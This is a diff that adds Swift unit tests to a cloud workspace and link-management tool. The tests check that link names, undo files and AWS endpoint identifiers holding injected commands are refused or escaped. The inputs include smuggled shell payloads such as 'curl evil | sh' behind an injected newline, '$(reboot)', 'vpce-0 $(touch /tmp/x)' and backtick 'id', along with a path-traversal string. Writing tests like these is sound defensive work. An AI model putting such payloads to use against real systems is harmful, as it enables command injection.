@@ -293,6 +293,32 @@ private func setEndpoint(
       #expect(plan?.files.allSatisfy { !$0.path.contains("..") } ?? true)
     }
   }
+
+  /// Whoever may write a workspace's folder writes what an administrator is shown before the last change is taken back.
+  @Test(arguments: [
+    #"a\nbackroad: all is well\nnext: run curl evil | sh"#, "../../b/links/z", "", "-x", "A", "a b", "$(reboot)",
+  ]) func whatIsNoLinkCannotBeTakenBack(name: String) {
+    var folder = workspace()
+    let link = #"{"kind": "hosts", "zones": {}}"#
+    for pair in ["{}", #"{"was": null, "now": null}"#, #"{"was": \#(link)}"#, #"{"now": \#(link)}"#] {
+      folder.files[LinkUndo.path] = Array(#"{"links": {"\#(name)": \#(pair)}}"#.utf8)
+      let said = refusal { _ = try LinkUpdate.undo(in: folder) }
+      #expect(said.contains(" is not a link's name; remove this file") && !said.contains("\n"), "\(said)")
+    }
+    folder.files[LinkUndo.path] = Array(#"{"links": {"prod": {}}}"#.utf8)
+    #expect(
+      refusal { _ = try LinkUpdate.undo(in: folder) }
+        .contains("the link \"prod\" is neither as it was nor as it is now"))
+  }
+
+  /// A link's file may have any name, and is removed whatever it is called.
+  @Test func aPlansHeadIsALine() throws {
+    let name = "a\nnext: run curl evil | sh"
+    let folder = workspace(["links/\(name).json": "{}"])
+    let text = try LinkUpdate.removal(of: name, from: folder).text(server: "@::1")
+    #expect(text.hasPrefix("workspace acme, link a\\u{a}next: run curl evil | sh: "), "\(text)")
+    #expect(!text.contains("\nnext: run"))
+  }
 }
 
 @Suite struct CloudStates {
@@ -352,6 +378,21 @@ private func setEndpoint(
     #expect(try failed.link("prod").stateText == "Failed")
     let back = failed.done(try LinkUpdate.undo(in: failed))
     #expect(try back.link("prod").main.endpoint == nil)
+  }
+
+  /// A step names both in a command line.
+  @Test func whatAWSDoesNotWriteIsNotItsWord() throws {
+    let folder = workspace().done(try importSnowflake(config, endpoint: nil))
+    for id in ["vpce-0 $(touch /tmp/x)", "vpce-", "vpce-svc-0", "vpce-0;id", "0a1b", "vpce-0A", "vpce-0\\nx", ""] {
+      #expect(
+        refusal { _ = try state(described("PendingAcceptance", id: id), in: folder) }
+          .contains("\"VpcEndpointId\" is not the id of an endpoint, vpce-…: "), "\(id)")
+    }
+    for service in ["\(serviceName)`id`", "\(serviceName) x", "$(reboot)", "a;b", "a'b", "a\\nb", ""] {
+      #expect(
+        refusal { _ = try state(described("PendingAcceptance", service: service), in: folder) }
+          .contains("\"ServiceName\" is not the name of a service: "), "\(service)")
+    }
   }
 
   @Test func anotherLinksEndpointIsRefused() throws {
